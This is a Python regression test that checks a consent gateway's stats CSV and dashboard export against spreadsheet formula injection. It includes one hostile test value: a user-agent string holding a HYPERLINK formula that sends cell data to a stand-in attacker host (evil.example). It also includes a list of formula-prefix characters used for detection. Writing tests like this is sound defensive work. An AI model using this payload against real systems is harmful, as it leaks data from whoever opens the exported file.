"""Formula injection (issue 23, finding 2): a consent POST whose user agent is a spreadsheet formula
puts no formula in marketing's CSV, from the stats API or the dashboard's export."""

from __future__ import annotations

import csv
import io
import re

import pytest

from consent_gateway.consent import ConsentEvent
from consent_gateway.staff import create_token

EVIL = '=HYPERLINK("http://evil.example/?d="&A1,"x")/1 CFNetwork/1 Darwin/1'


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


@pytest.fixture
def evil_decisions(poster, db_session):
    for _ in range(6):  # above the small-cell threshold: the row is shown
        poster("demo", "accept_all", ua=EVIL)
    families = {e.browser_family for e in db_session.query(ConsentEvent)}
    assert families == {"Other"}, "the copied name is never stored"


def test_the_stats_csv_grouped_by_browser_holds_no_formula(client, db_session, evil_decisions):
    token = create_token(db_session, "marketing", "Marie")
    r = client.get("/api/v1/stats/consents", query_string={"group_by": "browser", "format": "csv"},
                   headers={"Authorization": f"Bearer {token}"})
    cells = _cells(r.get_data(as_text=True))
    assert "Other" in cells and not any("HYPERLINK" in c for c in cells)
    assert not [c for c in cells if c.startswith(("=", "+", "@", "\t", "\r"))]


def test_the_dashboard_export_holds_no_formula(client, db_session, evil_decisions):
    token = create_token(db_session, "marketing", "Marie")
    page = client.get("/dashboard/sign-in").get_data(as_text=True)
    csrf = re.search(r'name="csrf_token" type="hidden" value="([^"]+)"', page).group(1)
    assert client.post("/dashboard/sign-in", data={"csrf_token": csrf, "token": token}).status_code == 302
    text = client.get("/dashboard/export.csv", query_string={"group_by": "browser"}).get_data(as_text=True)
    cells = _cells(text)
    assert not any("HYPERLINK" in c for c in cells)
    assert not [c for c in cells if c.startswith(("=", "+", "@", "\t", "\r"))]
